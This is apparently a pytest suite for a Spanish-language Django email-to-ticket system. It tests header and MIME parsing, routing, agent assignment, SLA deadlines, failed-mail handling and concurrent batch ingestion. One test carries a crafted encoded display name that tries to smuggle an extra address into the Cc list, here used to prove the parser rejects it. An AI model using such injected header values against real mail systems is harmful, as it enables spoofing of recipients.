From: =?utf-8?Q?M=C3=BCller=2C_Hans?= <hans@example.org>
To: soporte@example.com
Cc: =?utf-8?Q?jefe=40example=2Eorg_=3Cjefe=40example=2Eorg=3E=2C?= <otro@example.net>
Subject: Nombres
Message-ID: <{mid()}>

Hola.
"""
    )

    resultado = entrante(raw)

    ticket = resultado.ticket
    assert ticket.solicitante_nombre == "Müller, Hans"
    assert ticket.solicitante_email == "hans@example.org"
    # A decoded `<address>,` in a display name cannot smuggle an address in.
    assert ticket.participantes == ["otro@example.net"]
    assert resultado.detalle.cc == "otro@example.net"


def test_it_answers_to_reply_to_when_from_has_no_address(db):
    raw = crudo(
        f"""
From: "Boletin" <>
Reply-To: <respuestas@example.org>
To: soporte@example.com
Subject: Sin remitente
Message-ID: <{mid()}>

Hola.
"""
    )

    ticket = entrante(raw).ticket

    assert ticket.solicitante_email == "respuestas@example.org"
    assert ticket.solicitante_nombre == "Boletin"


# --- Broken mail ------------------------------------------------------------------------------


def test_it_reads_a_multipart_without_boundary_as_text(db):
    raw = crudo(
        f"""
From: ana@example.org
Subject: Sin frontera
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: multipart/mixed

El texto del mensaje.
"""
    )

    detalle = entrante(raw).detalle

    assert detalle.texto == "El texto del mensaje."
    assert not detalle.adjuntos.exists()
    assert "Defectos MIME" in detalle.nota


def test_it_reads_a_multipart_whose_boundary_never_occurs_as_text(db):
    raw = crudo(
        f"""
From: ana@example.org
Subject: Frontera ausente
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="NUNCA"

--OTRA
Content-Type: text/plain

Hola, esto se ve.
--OTRA--
"""
    )

    detalle = entrante(raw).detalle

    assert "Hola, esto se ve." in detalle.texto
    assert not detalle.adjuntos.exists()


def test_it_keeps_what_arrived_of_a_truncated_multipart(db):
    raw = crudo(
        f"""
From: ana@example.org
Subject: Cortado
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="B"

--B
Content-Type: text/plain; charset=utf-8

Primera parte.
--B
Content-Type: application/pdf; name="cortado.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQgaW5mb3
"""
    )

    detalle = entrante(raw).detalle

    assert detalle.texto == "Primera parte."
    assert list(detalle.adjuntos.values_list("nombre", flat=True)) == ["cortado.pdf"]
    assert "CloseBoundaryNotFoundDefect" in detalle.nota


def test_it_mends_a_header_folded_without_indentation(db):
    raw = crudo(
        """
Received: from mx.example.net (mx.example.net [192.0.2.1])
by mx2.example.net with ESMTP; Mon, 6 Jan 2025 10:00:00 -0600
From: Ana <ana@example.org>
Subject: Pantalla azul
Message-ID: <plegado@example.org>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain; charset=utf-8

Se reinicia solo.
--ALT--
"""
    )

    resultado = entrante(raw)

    assert resultado.ticket.asunto == "Pantalla azul"
    assert resultado.ticket.solicitante_email == "ana@example.org"
    assert resultado.detalle.message_id == "plegado@example.org"
    assert resultado.detalle.texto == "Se reinicia solo."
    assert "Cabecera rota" in resultado.detalle.nota


def test_it_leaves_a_body_that_starts_without_a_blank_line_alone(db):
    raw = crudo(
        """
From: ana@example.org
Subject: Sin separador
Esto ya es el cuerpo.

Y esto también.
"""
    )

    detalle = entrante(raw).detalle

    assert detalle.asunto == "Sin separador"
    assert "Esto ya es el cuerpo." in detalle.texto


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x00\xff\xfe basura binaria \x00",
        b"Subject: =?utf-8?B?!!!?= =?x?Q?=ZZ?=\r\n\r\n",
        b'Content-Type: multipart/mixed; boundary="a"\r\n\r\n--a\r\n--a\r\n--a--',
        b"Content-Type: message/rfc822\r\n\r\nno es un mensaje",
        b"From: <<<@@@>>>\r\nDate: 32 Foo 99999 99:99:99 +9999\r\n\r\nx",
    ],
)
def test_it_makes_a_ticket_of_mail_that_is_barely_mail(db, raw):
    resultado = entrante(raw)

    assert resultado.creado
    with resultado.detalle.crudo.open("rb") as handle:
        assert handle.read() == raw


def test_it_keeps_an_oversize_mail_without_what_does_not_fit(db, settings):
    import base64

    settings.INGEST_MAX_BYTES = 4000
    grande = bytes(range(256)) * 20  # 5120 bytes
    raw = con_adjuntos(
        """
Content-Type: text/plain
Content-Disposition: attachment; filename="chico.txt"

pequeño
""",
        f"""
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="volcado.bin"
Content-Transfer-Encoding: base64

{base64.encodebytes(grande).decode()}
""",
    )
    assert len(raw) > settings.INGEST_MAX_BYTES

    resultado = entrante(raw)

    detalle = resultado.detalle
    assert resultado.creado
    assert detalle.texto == "Adjunto los archivos."
    assert list(detalle.adjuntos.values_list("nombre", flat=True)) == ["chico.txt"]
    assert "volcado.bin" in detalle.nota and "5120 bytes" in detalle.nota
    assert f"más que el límite de {settings.INGEST_MAX_BYTES}" in detalle.nota
    with detalle.crudo.open("rb") as handle:
        assert handle.read() == raw  # nothing is lost: the raw message is whole


# --- Department, agent, SLA -------------------------------------------------------------------


def test_it_routes_by_the_mailbox_before_any_rule(db, soporte, redes):
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="redes@example.com", departamento=redes
    )
    ReglaDepartamento.objects.create(
        campo=ReglaDepartamento.Campo.DESTINATARIO,
        valor="soporte@example.com",
        departamento=soporte,
    )

    ticket = entrante(correo(), cuenta=cuenta).ticket

    assert ticket.departamento == redes


def test_it_routes_by_the_reading_system(db, soporte, redes):
    ReglaDepartamento.objects.create(
        campo=ReglaDepartamento.Campo.SISTEMA, valor=" erp ", departamento=redes
    )

    resultado = ingest(
        MensajeEntrante(asunto="Factura", de_email="erp@example.org", sistema="ERP"), fuente="api"
    )

    assert resultado.ticket.departamento == redes


def test_it_routes_by_recipient_in_rule_order(db, soporte, redes):
    ReglaDepartamento.objects.create(
        campo=ReglaDepartamento.Campo.DESTINATARIO,
        valor="Redes@Example.com",
        departamento=redes,
        orden=2,
    )
    ReglaDepartamento.objects.create(
        campo=ReglaDepartamento.Campo.DESTINATARIO,
        valor="urgente@example.com",
        departamento=soporte,
        orden=1,
    )

    por_copia = entrante(correo(para="otro@example.com", cc="REDES@example.com")).ticket
    ambas = entrante(correo(para="redes@example.com, urgente@example.com")).ticket
    ninguna = entrante(correo(para="nadie@example.com")).ticket

    assert por_copia.departamento == redes
    assert ambas.departamento == soporte  # the lower `orden` decides
    assert ninguna.departamento is None
    assert ninguna.asignado is None
    assert ninguna.vence_primera_respuesta is None


@pytest.fixture
def cuenta_soporte(soporte):
    return CuentaCorreo.objects.create(
        host="imap.example.com", user="soporte@example.com", departamento=soporte
    )


def test_it_assigns_round_robin_among_active_agents_with_ticket_access(
    db, soporte, redes, cuenta_soporte
):
    a1 = agente("a1", soporte)
    agente("fuera", soporte, is_active=False)
    a2 = agente("a2", soporte)
    agente("sinacceso", soporte, acceso_ticket=False)
    agente("otro_departamento", redes)
    a3 = agente("a3", soporte)

    asignados = [
        entrante(correo(f"Caso {i}"), cuenta=cuenta_soporte).ticket.asignado for i in range(7)
    ]

    assert asignados == [a1, a2, a3, a1, a2, a3, a1]
    assert ColaDepartamento.objects.get(departamento=soporte).ultimo_asignado == a1


def test_it_continues_the_round_after_an_agent_leaves(db, soporte, cuenta_soporte):
    a1, a2, a3 = agente("a1", soporte), agente("a2", soporte), agente("a3", soporte)
    entrante(correo("uno"), cuenta=cuenta_soporte)
    entrante(correo("dos"), cuenta=cuenta_soporte)
    Usuario.objects.filter(pk=a2.pk).update(is_active=False)  # it was a2's turn last

    siguientes = [
        entrante(correo(f"x{i}"), cuenta=cuenta_soporte).ticket.asignado for i in range(3)
    ]

    assert siguientes == [a3, a1, a3]


def test_it_assigns_to_the_agent_with_fewest_open_tickets(db, soporte, cuenta_soporte):
    ColaDepartamento.objects.create(departamento=soporte, asignacion=Asignacion.MENOS_ABIERTOS)
    a1, a2, a3 = agente("a1", soporte), agente("a2", soporte), agente("a3", soporte)
    numero = iter(range(1000, 2000))

    def tickets(usuario, estado, n):
        for _ in range(n):
            Ticket.objects.create(numero=next(numero), asignado=usuario, estado=estado)

    tickets(a1, Ticket.Estado.ABIERTO, 2)
    tickets(a2, Ticket.Estado.NUEVO, 1)
    tickets(a2, Ticket.Estado.CERRADO, 5)  # closed and solved ones do not count
    tickets(a2, Ticket.Estado.RESUELTO, 5)
    tickets(a3, Ticket.Estado.EN_ESPERA, 1)

    asignados = [entrante(correo(f"c{i}"), cuenta=cuenta_soporte).ticket.asignado for i in range(4)]

    # a2 and a3 tie at 1 (a2 first by id), then a3 has 1, then all tie at 2.
    assert asignados == [a2, a3, a1, a2]


def test_it_leaves_the_ticket_in_the_queue_when_the_department_says_so(db, soporte, cuenta_soporte):
    ColaDepartamento.objects.create(departamento=soporte, asignacion=Asignacion.NINGUNA)
    agente("a1", soporte)

    assert entrante(correo(), cuenta=cuenta_soporte).ticket.asignado is None


def test_it_leaves_the_ticket_unassigned_without_agents(db, soporte, cuenta_soporte):
    ticket = entrante(correo(), cuenta=cuenta_soporte).ticket

    assert ticket.departamento == soporte
    assert ticket.asignado is None


@pytest.fixture
def laboral(db):
    """Mon–Fri 08:00–17:00 in Costa Rica (UTC−6, no daylight saving)."""
    return Calendario.objects.create(
        nombre="Laboral",
        zona_horaria="America/Costa_Rica",
        horario={str(d): [["08:00", "17:00"]] for d in range(5)},
    )


def cr(dia, hora, minuto=0):
    return datetime(2025, 1, dia, hora, minuto, tzinfo=CR)  # 2025-01-06 is a Monday


@pytest.mark.parametrize(
    ("inicio", "minutos", "feriados", "esperado"),
    [
        (cr(6, 16), 120, (), cr(7, 9)),  # crosses a night
        (cr(10, 16, 30), 60, (), cr(13, 8, 30)),  # crosses a weekend
        (cr(11, 10), 30, (), cr(13, 8, 30)),  # starts on a Saturday
        (cr(7, 16), 120, (date(2025, 1, 8),), cr(9, 9)),  # skips a Wednesday holiday
        (cr(6, 10), 30, (date(2025, 1, 6),), cr(7, 8, 30)),  # starts on a holiday
        (cr(6, 16), 60, (), cr(6, 17)),  # due exactly at close: the same day
        (cr(6, 17), 1, (), cr(7, 8, 1)),  # starts at close
        (cr(6, 6), 30, (), cr(6, 8, 30)),  # starts before opening
        (cr(6, 8), 3 * 540, (), cr(8, 17)),  # three whole days
        (cr(6, 16), 0, (), cr(6, 16)),
        (datetime(2025, 1, 6, 22, 0, tzinfo=UTC), 120, (), cr(7, 9)),  # given in UTC
    ],
)
def test_it_adds_business_minutes(laboral, inicio, minutos, feriados, esperado):
    vence = sumar_minutos_habiles(inicio, minutos, laboral, set(feriados))

    assert vence == esperado
    assert vence.utcoffset() == timedelta(hours=-6)


def test_it_adds_business_minutes_around_a_lunch_break(db):
    partido = Calendario(nombre="Partido", horario={"0": [["13:00", "17:00"], ["08:00", "12:00"]]})

    assert sumar_minutos_habiles(cr(6, 11, 30), 60, partido) == cr(6, 13, 30)
    assert sumar_minutos_habiles(cr(6, 12, 15), 10, partido) == cr(6, 13, 10)
    assert sumar_minutos_habiles(cr(6, 16, 30), 60, partido) == cr(13, 8, 30)


def test_it_counts_every_minute_on_a_24_7_calendar(db):
    siempre = Calendario(nombre="24/7", horario={})

    assert sumar_minutos_habiles(cr(11, 10), 1440, siempre, {date(2025, 1, 12)}) == cr(12, 10)


def test_it_ignores_malformed_opening_hours(db):
    raro = Calendario(
        nombre="Raro",
        zona_horaria="No/Existe",
        horario={"0": [["25:00", "26:00"], ["17:00", "08:00"], ["09:00", "10:00"]]},
    )

    # Only Monday 09:00–10:00 (in UTC, the unknown zone's fallback) is open.
    inicio = datetime(2025, 1, 6, 9, 30, tzinfo=UTC)
    assert sumar_minutos_habiles(inicio, 60, raro) == datetime(2025, 1, 13, 9, 30, tzinfo=UTC)


def test_it_sets_the_sla_due_dates_of_a_new_ticket(
    db, soporte, cuenta_soporte, laboral, monkeypatch
):
    Feriado.objects.create(calendario=laboral, fecha=date(2025, 1, 13), nombre="Feriado")
    PoliticaSLA.objects.create(
        departamento=soporte,
        prioridad=Prioridad.NORMAL,
        primera_respuesta_min=60,
        resolucion_min=480,
        calendario=laboral,
    )
    monkeypatch.setattr(timezone, "now", lambda: cr(10, 16, 30).astimezone(UTC))  # Friday

    ticket = entrante(correo(), cuenta=cuenta_soporte).ticket

    ticket.refresh_from_db()
    # 30 minutes on Friday, Monday is a holiday, the rest on Tuesday.
    assert ticket.vence_primera_respuesta == cr(14, 8, 30)
    assert ticket.vence_resolucion == cr(14, 15, 30)


def test_every_new_ticket_of_a_batch_gets_the_whole_sla_clock(
    db, soporte, cuenta_soporte, laboral, monkeypatch
):
    PoliticaSLA.objects.create(
        departamento=soporte,
        prioridad=Prioridad.NORMAL,
        primera_respuesta_min=60,
        resolucion_min=480,
        calendario=laboral,
    )
    monkeypatch.setattr(timezone, "now", lambda: cr(10, 9, 0).astimezone(UTC))  # Friday

    resultados = lote(
        [correo(f"Caso {i}", message_id=mid()) for i in range(3)], cuenta=cuenta_soporte
    )

    relojes = {
        (
            t.vence_primera_respuesta,
            t.aviso_primera_respuesta,
            t.vence_resolucion,
            t.aviso_resolucion,
            t.sla_proximo,
        )
        for t in Ticket.objects.filter(pk__in=[r.ticket.pk for r in resultados])
    }
    # 80% of one business hour after 09:00: the warning at 09:48, the sweep's first moment.
    assert relojes == {(cr(10, 10, 0), cr(10, 9, 48), cr(10, 17, 0), cr(10, 15, 24), cr(10, 9, 48))}


def test_it_sets_no_due_dates_without_a_policy_for_the_priority(
    db, soporte, cuenta_soporte, laboral
):
    PoliticaSLA.objects.create(
        departamento=soporte,
        prioridad=Prioridad.URGENTE,
        primera_respuesta_min=15,
        resolucion_min=60,
        calendario=laboral,
    )

    ticket = entrante(correo(), cuenta=cuenta_soporte).ticket

    assert ticket.vence_primera_respuesta is None and ticket.vence_resolucion is None


def test_it_does_not_move_due_dates_on_a_reply(db, soporte, cuenta_soporte, laboral):
    PoliticaSLA.objects.create(
        departamento=soporte,
        prioridad=Prioridad.NORMAL,
        primera_respuesta_min=60,
        resolucion_min=480,
        calendario=laboral,
    )
    primero = mid()
    ticket = entrante(correo(message_id=primero), cuenta=cuenta_soporte).ticket
    ticket.refresh_from_db()
    vencimientos = (ticket.vence_primera_respuesta, ticket.vence_resolucion)

    entrante(correo("Re: x", in_reply_to=primero), cuenta=cuenta_soporte)

    ticket.refresh_from_db()
    assert (ticket.vence_primera_respuesta, ticket.vence_resolucion) == vencimientos


# --- The raw message, failures ----------------------------------------------------------------


def test_it_keeps_the_raw_message_of_imap_mail(db, cuenta_soporte, settings):
    raw = correo(texto="Texto con ñ y adjuntos.\n")

    resultado = entrante(raw, cuenta=cuenta_soporte, carpeta="INBOX", uid=42)

    detalle = resultado.detalle
    assert detalle.fuente == cuenta_soporte.fuente
    with detalle.crudo.open("rb") as handle:
        assert handle.read() == raw
    assert len(archivos(settings, "correos")) == 1


def test_it_records_failed_mail_and_rolls_back_everything(db, soporte, cuenta_soporte, monkeypatch):
    a1 = agente("a1", soporte)
    raw = correo("Esto falla")

    def falla(*args, **kwargs):
        raise ValueError("disco en mal estado")

    monkeypatch.setattr(ingest_module, "_guardar_detalle", falla)

    resultado = ingest_raw(raw, cuenta=cuenta_soporte, carpeta="INBOX", uid=7)

    fallido = resultado.fallido
    assert resultado.ticket is None and resultado.detalle is None
    assert fallido.motivo == CorreoFallido.Motivo.ERROR
    assert "ValueError: disco en mal estado" in fallido.error
    assert (fallido.cuenta, fallido.carpeta, fallido.uid) == (cuenta_soporte, "INBOX", 7)
    assert fallido.fuente == cuenta_soporte.fuente
    assert fallido.tamano == len(raw)
    with fallido.crudo.open("rb") as handle:
        assert handle.read() == raw
    # The ticket was written before the failure: the transaction took it back.
    assert not Ticket.objects.exists()
    assert not DetalleTicket.objects.exists()
    assert not ColaDepartamento.objects.filter(ultimo_asignado=a1).exists()

    again = ingest_raw(raw, cuenta=cuenta_soporte, carpeta="INBOX", uid=7)
    assert again.fallido == fallido  # recorded once

    monkeypatch.undo()
    reprocesado = correo_fallido_reprocesar(fallido=fallido)

    assert reprocesado.creado
    assert reprocesado.ticket.asignado == a1
    assert reprocesado.detalle.fuente == cuenta_soporte.fuente
    with reprocesado.detalle.crudo.open("rb") as handle:
        assert handle.read() == raw
    fallido.refresh_from_db()
    assert fallido.reprocesado_en is not None
    assert fallido.detalle == reprocesado.detalle
    # Reprocessing again is a duplicate: nothing new is stored.
    assert correo_fallido_reprocesar(fallido=fallido).duplicado
    assert DetalleTicket.objects.count() == 1


def test_it_records_mail_whose_parsing_fails(db, monkeypatch):
    def falla(*args, **kwargs):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(ingest_module, "parse_raw", falla)

    resultado = ingest_raw(b"From: ana@example.org\r\n\r\nx", fuente="cuenta:3")

    assert resultado.fallido.motivo == CorreoFallido.Motivo.ERROR
    assert "RecursionError" in resultado.fallido.error
    assert not Ticket.objects.exists()


def test_it_keeps_a_loop_that_an_operator_reprocesses_as_machine_mail(db):
    fallido = ingest_raw(correo("Aviso", message_id=generar_message_id(DOMINIO))).fallido

    resultado = correo_fallido_reprocesar(fallido=fallido)

    assert resultado.detalle.automatico == DetalleTicket.Automatico.AUTORESPUESTA
    fallido.refresh_from_db()
    assert fallido.detalle == resultado.detalle


@pytest.mark.parametrize("error", [OperationalError, InterfaceError])
def test_it_lets_database_errors_through_so_the_poller_retries(db, monkeypatch, error):
    def caida(*args, **kwargs):
        raise error("server closed the connection unexpectedly")

    monkeypatch.setattr(ingest_module, "_guardar_detalle", caida)
    monkeypatch.setattr(ingest_module, "_base_disponible", lambda: False)  # it really is down

    with pytest.raises(error):
        ingest_raw(correo(), fuente="cuenta:1")

    assert not CorreoFallido.objects.exists()
    assert not Ticket.objects.exists()


def test_it_keeps_a_mail_the_database_refuses_while_up_as_failed_mail(db, monkeypatch):
    def rechazo(*args, **kwargs):
        raise OperationalError("index row size 2984 exceeds btree version 4 maximum 2704")

    monkeypatch.setattr(ingest_module, "_guardar_detalle", rechazo)
    raw = correo()
    resultado = ingest_raw(raw, fuente="cuenta:1")
    assert resultado.ticket is None
    fallido = CorreoFallido.objects.get()
    assert "index row size" in fallido.error
    assert fallido.crudo.read() == raw
    assert not Ticket.objects.exists()


def test_it_bounds_very_long_message_ids_and_still_threads_by_them(db):
    largo = "视" * 990 + "@example.org"

    def raw(cabeceras: str) -> bytes:
        return (f"From: ana@example.org\r\nSubject: x\r\n{cabeceras}\r\nHola\r\n").encode()

    primero = ingest_raw(raw(f"Message-ID: <{largo}>\r\n"), fuente="cuenta:1")
    assert primero.ticket is not None
    assert len(primero.detalle.message_id) <= 255
    respuesta = ingest_raw(
        raw(f"Message-ID: <r@example.org>\r\nIn-Reply-To: <{largo}>\r\n"), fuente="cuenta:1"
    )
    assert respuesta.ticket == primero.ticket


# --- Batches (what the IMAP poller hands over) ------------------------------------------------


def lote(raws, **kwargs):
    resultados = ingest_lote(raws, **kwargs)
    assert len(resultados) == len(raws)
    return resultados


def test_it_stores_a_batch_in_order_and_threads_replies_to_earlier_mail_of_it(
    db, soporte, cuenta_soporte
):
    a1, a2 = agente("a1", soporte), agente("a2", soporte)
    uno, dos, re_uno = mid(), mid(), mid()

    resultados = lote(
        [
            correo("Uno", message_id=uno),
            correo("Re: Uno", message_id=re_uno, in_reply_to=uno, cc="luis@example.org"),
            correo("Dos", message_id=dos, de="Beto <beto@example.org>"),
            correo("Re: Re: Uno", references=[uno, re_uno]),  # References only
            correo("Re: Dos", in_reply_to=dos, de="Beto <beto@example.org>"),
        ],
        cuenta=cuenta_soporte,
    )

    assert [r.fallido for r in resultados] == [None] * 5
    assert [r.creado for r in resultados] == [True, False, True, False, False]
    t_uno, t_dos = resultados[0].ticket, resultados[2].ticket
    assert [r.ticket for r in resultados] == [t_uno, t_uno, t_dos, t_uno, t_dos]
    assert Ticket.objects.count() == 2
    assert t_dos.numero == t_uno.numero + 1  # numbered in the order of the batch
    assert (t_uno.asignado, t_dos.asignado) == (a1, a2)
    ids = [r.detalle.pk for r in resultados]
    assert ids == sorted(ids)  # entries in the order of the batch
    t_uno.refresh_from_db()
    assert t_uno.participantes == ["luis@example.org"]
    assert list(t_uno.detalles.values_list("asunto", flat=True)) == [
        "Uno",
        "Re: Uno",
        "Re: Re: Uno",
    ]
    assert resultados[1].mensaje == f"Se ha agregado el detalle {ids[1]} al ticket {t_uno.numero}"


def test_it_stores_the_rest_of_a_batch_when_one_message_fails(db, cuenta_soporte, monkeypatch):
    original = ingest_module._guardar_detalle

    def falla_con_roto(ticket, mensaje, **kwargs):
        if mensaje.asunto == "Roto":
            raise ValueError("disco en mal estado")
        return original(ticket, mensaje, **kwargs)

    monkeypatch.setattr(ingest_module, "_guardar_detalle", falla_con_roto)
    raws = [correo("Antes"), correo("Roto"), correo("Después")]

    resultados = lote(raws, cuenta=cuenta_soporte, carpeta="INBOX", uids=[5, 6, 7])

    antes, roto, despues = resultados
    assert antes.creado and despues.creado
    assert roto.ticket is None and roto.detalle is None
    fallido = CorreoFallido.objects.get()
    assert roto.fallido == fallido
    assert (fallido.carpeta, fallido.uid) == ("INBOX", 6)
    assert "ValueError: disco en mal estado" in fallido.error
    assert fallido.crudo.read() == raws[1]
    assert sorted(Ticket.objects.values_list("asunto", flat=True)) == ["Antes", "Después"]


def test_it_stores_the_rest_of_a_batch_when_one_message_cannot_be_parsed(db, monkeypatch):
    original = ingest_module.parse_raw

    def falla_con_roto(raw, **kwargs):
        if b"Roto" in raw:
            raise RecursionError("maximum recursion depth exceeded")
        return original(raw, **kwargs)

    monkeypatch.setattr(ingest_module, "parse_raw", falla_con_roto)

    resultados = lote([correo("Uno"), correo("Roto"), correo("Dos")], fuente="cuenta:3")

    assert [r.creado for r in resultados] == [True, False, True]
    assert "RecursionError" in resultados[1].fallido.error
    assert Ticket.objects.count() == 2


def test_it_stores_a_message_repeated_within_a_batch_once(db, settings):
    uno, ya = correo("Uno", message_id=mid()), correo("Ya estaba", message_id=mid())
    primero = entrante(ya)

    resultados = lote([uno, ya, uno, correo("Dos"), uno])

    assert [r.duplicado for r in resultados] == [False, True, True, False, True]
    assert resultados[1].ticket == primero.ticket and resultados[1].detalle == primero.detalle
    assert resultados[1].creado  # it opened its ticket, back then
    assert resultados[2].detalle.pk == resultados[4].detalle.pk == resultados[0].detalle.pk
    assert resultados[2].creado and resultados[2].ticket == resultados[0].ticket
    assert DetalleTicket.objects.count() == 3
    assert Ticket.objects.count() == 3
    assert len(archivos(settings, "correos")) == 3


def test_it_opens_one_linked_ticket_for_late_replies_in_one_batch(ticket_de_ana):
    ticket, primero = ticket_de_ana
    cerrado_en = timezone.now() - timedelta(days=30)
    Ticket.objects.filter(pk=ticket.pk).update(estado=Ticket.Estado.CERRADO, cerrado_en=cerrado_en)

    resultados = lote([correo("Re: a", in_reply_to=primero), correo("Re: b", in_reply_to=primero)])

    assert [r.creado for r in resultados] == [True, False]
    nuevo = resultados[0].ticket
    assert resultados[1].ticket == nuevo and nuevo.relacionado == ticket
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.CERRADO


def test_it_reopens_a_ticket_once_for_several_replies_in_one_batch(ticket_de_ana):
    ticket, primero = ticket_de_ana
    Ticket.objects.filter(pk=ticket.pk).update(estado=Ticket.Estado.RESUELTO)

    resultados = lote(
        [
            correo("Re: a", in_reply_to=primero, cc="marta@example.org"),
            correo("Re: b", in_reply_to=primero, cc="pablo@example.org"),
        ]
    )

    assert [r.ticket for r in resultados] == [ticket, ticket]
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.ABIERTO
    assert ticket.participantes == ["luis@example.org", "marta@example.org", "pablo@example.org"]


def test_it_assigns_the_fewest_open_tickets_across_a_batch(db, soporte, cuenta_soporte):
    ColaDepartamento.objects.create(departamento=soporte, asignacion=Asignacion.MENOS_ABIERTOS)
    a1, a2 = agente("a1", soporte), agente("a2", soporte)
    Ticket.objects.create(numero=1000, asignado=a1, estado=Ticket.Estado.ABIERTO)

    resultados = lote([correo(f"c{i}") for i in range(4)], cuenta=cuenta_soporte)

    assert [r.ticket.asignado for r in resultados] == [a2, a1, a2, a1]


def test_it_runs_the_same_statements_for_a_batch_of_any_size(db, soporte, cuenta_soporte, laboral):
    """New mail, replies to stored tickets and to mail of the same batch, attachments."""
    agente("a1", soporte)
    agente("a2", soporte)
    PoliticaSLA.objects.create(
        departamento=soporte,
        prioridad=Prioridad.NORMAL,
        primera_respuesta_min=60,
        resolucion_min=480,
        calendario=laboral,
    )
    abiertos = [mid() for _ in range(8)]
    for message_id in abiertos:
        entrante(correo("Abierto", message_id=message_id), cuenta=cuenta_soporte)

    def mezcla(n):
        raws = []
        for i in range(n):
            nuevo = mid()
            raws += [
                correo(f"Nuevo {i}", message_id=nuevo, cc="luis@example.org"),
                correo("Re: abierto", in_reply_to=abiertos.pop()),
                correo("Re: nuevo", in_reply_to=nuevo),
                correo_con_adjunto(f"Adjunto {i}", PDF + nuevo.encode()),
            ]
        return raws

    def consultas(raws):
        with CaptureQueriesContext(connection) as capturadas:
            resultados = lote(raws, cuenta=cuenta_soporte)
        assert all(r.detalle is not None and not r.duplicado for r in resultados)
        return len(capturadas)

    chico, grande = consultas(mezcla(1)), consultas(mezcla(4))

    # 12 of the pipeline (one of them: which senders are agents) and 5 of its notifications
    # (replies to our own mail, the acknowledgement window, the assignees, the rows), in the
    # test's savepoint; on PostgreSQL one more takes the requesters' acknowledgement locks.
    assert chico == grande <= (20 if connection.vendor == "postgresql" else 19)
    assert Ticket.objects.filter(asunto__startswith="Adjunto").count() == 5
    assert Adjunto.objects.count() == 5


def correo_con_adjunto(asunto: str, contenido: bytes) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Ana Cliente <ana@example.org>"
    msg["To"] = "soporte@example.com"
    msg["Subject"] = asunto
    msg["Message-ID"] = f"<{mid()}>"
    msg.set_content("Adjunto el informe.\n")
    msg.add_attachment(contenido, maintype="application", subtype="pdf", filename="informe.pdf")
    return msg.as_bytes()


@pytest.mark.django_db(transaction=True)
def test_concurrent_batches_into_the_same_tickets_neither_wait_on_each_other_nor_fail(
    postgres, soporte, caplog
):
    """Each batch locks the tickets it continues in id order: two pollers that answer the
    same tickets in opposite orders cannot deadlock (which would fall back to one by one)."""
    import threading

    from django.db import connections

    agente("a1", soporte)
    cuentas = [
        CuentaCorreo.objects.create(host="imap.example.com", user=u, departamento=soporte)
        for u in ("uno@example.com", "dos@example.com")
    ]
    raices = [mid() for _ in range(4)]
    for message_id in raices:
        entrante(correo("Raíz", message_id=message_id), cuenta=cuentas[0])
    errores = []

    def poller(cuenta, orden, ronda):
        try:
            raws = [correo(f"Re {ronda}", in_reply_to=raices[i]) for i in orden]
            raws.append(correo(f"Nuevo {ronda}"))
            resultados = ingest_lote(raws, cuenta=cuenta)
            assert all(r.detalle is not None for r in resultados)
        except Exception as exc:
            errores.append(exc)
        finally:
            connections.close_all()

    for ronda in range(5):
        hilos = [
            threading.Thread(target=poller, args=(cuentas[0], [0, 1, 2, 3], ronda)),
            threading.Thread(target=poller, args=(cuentas[1], [3, 2, 1, 0], ronda)),
        ]
        for hilo in hilos:
            hilo.start()
        for hilo in hilos:
            hilo.join(timeout=60)

    assert errores == []
    assert "one by one" not in caplog.text
    assert not CorreoFallido.objects.exists()
    assert DetalleTicket.objects.count() == 4 + 5 * 2 * 5
    assert Ticket.objects.count() == 4 + 5 * 2


def test_a_forked_worker_writes_files_with_a_writer_thread_of_its_own(settings):
    """Celery and gunicorn fork workers: the writer threads started before the fork are not
    there in the child, which must start its own rather than wait for them forever."""
    import os

    escritos = ingest_module._Archivos()
    nombre = escritos.nombrar(DetalleTicket.crudo.field, b"antes del fork", ".eml")
    (escritura,) = escritos.escribir_aparte()
    escritura.result(timeout=10)
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child reports through its exit status
        try:
            hijo = ingest_module._Archivos()
            hijo.nombrar(DetalleTicket.crudo.field, b"en el hijo", ".eml")
            (escritura,) = hijo.escribir_aparte()
            escritura.result(timeout=10)
        finally:
            os._exit(0 if len(archivos(settings, "correos")) == 2 else 1)
    _, estado = os.waitpid(pid, 0)

    assert os.waitstatus_to_exitcode(estado) == 0
    assert (Path(settings.MEDIA_ROOT) / nombre).read_bytes() == b"antes del fork"


@pytest.mark.django_db(transaction=True)
def test_the_same_batch_ingested_twice_at_once_is_stored_once(postgres, soporte):
    """Two pollers of one mailbox (its lock lost, say) race on the same mail, in opposite
    orders: the unique index decides, and the loser answers with the winner's entries."""
    import threading

    from django.db import connections

    cuenta = CuentaCorreo.objects.create(host="imap.example.com", user="s@example.com")
    raws = [correo(f"Caso {i}") for i in range(6)]
    respuestas, errores = {}, []

    def poller(nombre, orden):
        try:
            respuestas[nombre] = dict(
                zip(orden, ingest_lote([raws[i] for i in orden], cuenta=cuenta), strict=True)
            )
        except Exception as exc:
            errores.append(exc)
        finally:
            connections.close_all()

    hilos = [
        threading.Thread(target=poller, args=("a", [0, 1, 2, 3, 4, 5])),
        threading.Thread(target=poller, args=("b", [5, 4, 3, 2, 1, 0])),
    ]
    for hilo in hilos:
        hilo.start()
    for hilo in hilos:
        hilo.join(timeout=60)

    assert errores == []
    assert DetalleTicket.objects.count() == Ticket.objects.count() == 6
    assert not CorreoFallido.objects.exists()
    for i in range(6):
        a, b = respuestas["a"][i], respuestas["b"][i]
        assert a.detalle.pk == b.detalle.pk and a.ticket.pk == b.ticket.pk
        assert sorted([a.duplicado, b.duplicado]) == [False, True]  # one stored it


# --- A stream of batches (`ingest_flujo`) -----------------------------------------------------


def _flujo(lotes, eventos, **kwargs):
    """The stream over `lotes` (lists of raw mails), noting when each batch is read, in which
    thread each is stored, and when each comes back."""

